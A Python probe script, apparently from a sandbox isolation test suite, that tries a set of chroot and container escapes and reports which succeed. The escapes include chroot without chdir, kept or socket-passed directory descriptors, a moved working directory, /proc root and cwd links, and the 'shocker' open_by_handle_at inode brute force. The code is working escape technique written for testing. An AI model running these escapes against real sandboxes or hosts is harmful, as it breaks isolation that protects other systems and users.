"""Out of the root: chroot without chdir, descriptors kept across it, handles instead of paths."""

from __future__ import annotations

import ctypes
import os
import socket
import struct

from kit import ARGUMENTS, LIBC, attempt, check, say

MARKER = ARGUMENTS[0]
HERE = (os.stat("/").st_dev, os.stat("/").st_ino)


def climb() -> str:
    """As far up as it goes; then whether that is another root than the jail's, or shows the host's file."""
    for _ in range(200):
        os.chdir("..")
    os.chroot(".")
    return judge()


def judge() -> str:
    for path in (MARKER, "." + MARKER):
        if os.path.exists(path):
            return f"out: {path}"
    if (os.stat("/").st_dev, os.stat("/").st_ino) != HERE:
        return "another root"
    raise PermissionError(1, "still the jail's root")


def classic() -> str:
    os.makedirs("/tmp/pit", exist_ok=True)
    os.chroot("/tmp/pit")
    return climb()


def with_descriptor() -> str:
    root_fd = os.open("/", os.O_RDONLY)
    os.makedirs("/tmp/pit", exist_ok=True)
    os.chroot("/tmp/pit")
    os.fchdir(root_fd)
    return climb()


def through_a_socket() -> str:
    """A process outside the pit hands a directory to one inside."""
    os.makedirs("/tmp/pit", exist_ok=True)
    one, other = socket.socketpair()
    socket.send_fds(one, [b"x"], [os.open("/", os.O_PATH)])
    os.chroot("/tmp/pit")
    os.chdir("/")
    _, (fd,), _, _ = socket.recv_fds(other, 1, 1)
    os.fchdir(fd)
    return climb()


def out_of(path: str) -> str:
    os.chdir(path)
    return climb()


def moved_directory() -> str:
    """A working directory that is moved from under a chroot."""
    os.makedirs("/tmp/a/b", exist_ok=True)
    child = os.fork()
    if child == 0:
        os.chroot("/tmp/a")
        os.chdir("/b")
        os.read(GO[0], 1)
        try:
            said = climb()
        except OSError:
            said = ""
        os._exit(1 if said else 0)
    os.rename("/tmp/a/b", "/tmp/b")
    os.write(GO[1], b"x")
    if os.waitpid(child, 0)[1]:
        return "out"
    raise PermissionError(1, "still the jail's root")


def handles() -> None:
    """open_by_handle_at ("shocker"): the inodes 1, 2 and 128 of every file system that is mounted here, which are the roots of most."""
    with open("/proc/self/mountinfo") as file:
        places = [line.split()[4] for line in file]
    for place in [*places, "/usr/bin"]:
        try:
            mount_fd = os.open(place, os.O_RDONLY | os.O_NONBLOCK)
        except OSError:
            continue
        for inode in (1, 2, 128):
            handle = struct.pack("IiQ", 8, 1, inode)  # type 1: inode and generation 0
            attempt(f"handle {inode} at {place}", lambda handle=handle, mount_fd=mount_fd: sorted(os.listdir(check(LIBC.open_by_handle_at(mount_fd, ctypes.create_string_buffer(handle), os.O_RDONLY))))[:3])
        os.close(mount_fd)


GO = os.pipe()
if ARGUMENTS[1:] == ["handles"]:
    handles()
else:
    say("marker", "seen" if os.path.exists(MARKER) else "not seen")
    attempt("classic", classic)
    attempt("descriptor", with_descriptor)
    attempt("socket", through_a_socket)
    attempt("moved directory", moved_directory)
    for path in ("/proc/1/root", "/proc/1/cwd", "/proc/self/root", "/proc/self/cwd", "/proc/self/fd/0", "/proc", "/dev/shm", "/run", "/usr/bin"):
        attempt(f"out of {path}", lambda path=path: out_of(path))
